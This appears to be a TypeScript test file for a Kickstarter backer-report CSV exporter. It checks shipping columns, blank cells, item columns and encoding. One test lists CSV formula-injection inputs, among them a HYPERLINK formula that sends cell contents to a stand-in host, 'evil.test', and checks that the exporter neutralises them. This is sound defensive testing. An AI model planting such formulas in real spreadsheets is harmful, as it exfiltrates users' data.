import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { type BackerLine, backerReportCsv } from '../../src/connectors/kickstarter/backer-report.ts'
import { csvCell, csvRow, unguarded } from '../../src/connectors/kickstarter/csv-cells.ts'
import { pledgeOf } from './world.ts'

const read = (lines: BackerLine[]): Record<string, string>[] =>
  parse([...backerReportCsv(lines)].join(''), { columns: true, bom: true })
const line = (over: Partial<BackerLine> = {}): BackerLine => ({
  ...{ pledge: pledgeOf(), order: { number: 'ML-7', status: 'awaiting_shipment' }, parcels: [], why: null },
  ...over,
})
const parcel = { tracking: '9400111', carrier: 'stamps_com', shippedOn: '2026-07-01' }

test('a shipped backer has number, carrier and date; several parcels stand side by side, once each', () => {
  const parcels = [parcel, { ...parcel, tracking: '1Z9', carrier: 'ups' }, parcel]
  const [row] = read([line({ parcels, order: { number: 'ML-7', status: 'shipped' } })])
  assert.deepEqual(
    [
      'Backer Number',
      'Lamp',
      'Order Number',
      'ShipStation Status',
      'Carrier',
      'Tracking Number',
      'Shipped Date',
      'Why Not',
    ].map((name) => row?.[name]),
    ['7', '1', 'ML-7', 'shipped', 'USPS, UPS', '9400111, 1Z9', '2026-07-01', ''],
  )
})

test('an empty tracking cell says which of the two it is, or why nothing was sent', () => {
  const rows = read([
    line(),
    line({ parcels: [{ ...parcel, tracking: null }] }),
    line({ order: null, why: 'Not sent: survey unanswered.' }),
    line({ order: null }),
  ])
  assert.deepEqual(
    rows.map((row) => row['Why Not']),
    ['ShipStation has not shipped it yet', 'shipped without a number', 'Not sent: survey unanswered.', ''],
  )
})

test('items and answers of all backers are columns; who has none is blank there', () => {
  const items = [{ key: 'addon:7', kind: 'addon' as const, title: 'Mug', quantity: 3 }]
  const answers = [{ question: 'Colour?', answer: 'blue' }]
  const [one, two] = read([line(), line({ pledge: pledgeOf({ items, answers }) })])
  assert.deepEqual(
    [one?.['Mug'], one?.['Colour?'], two?.['Mug'], two?.['Colour?'], two?.['Lamp']],
    ['', '', '3', 'blue', ''],
  )
})

test('amounts stay numbers, and the file opens as UTF-8', () => {
  const text = [...backerReportCsv([line()])].join('')
  assert.ok(text.startsWith('\uFEFFBacker Number,'))
  assert.match(text, /,53\.00,/)
})

test('what a spreadsheet would run is disarmed, and comes back as it was', () => {
  const evil = [
    '=HYPERLINK("http://evil.test?"&A1)',
    '+1 503 555',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\0=1',
    ' =1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
  ]
  for (const text of evil) {
    const cell = csvCell(text)
    assert.match(cell, /^"'/, JSON.stringify(text))
    assert.equal(unguarded((parse(cell) as string[][])[0]?.[0] ?? ''), text)
  }
  assert.equal(csvCell('"=1'), '"""=1"')
  assert.equal(csvCell('a";=1;"'), '"a"";=1;"""')
  assert.equal(csvCell('-12.50'), '-12.50')
})

test('every cell comes back as it went in', () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.string(), fc.constantFrom("'=1", "''+", '-1', "'")), {
        minLength: 2,
        maxLength: 5,
      }),
      (cells) => {
        const [back] = parse(csvRow(cells)) as string[][]
        assert.deepEqual(back?.map(unguarded), cells)
      },
    ),
  )
})
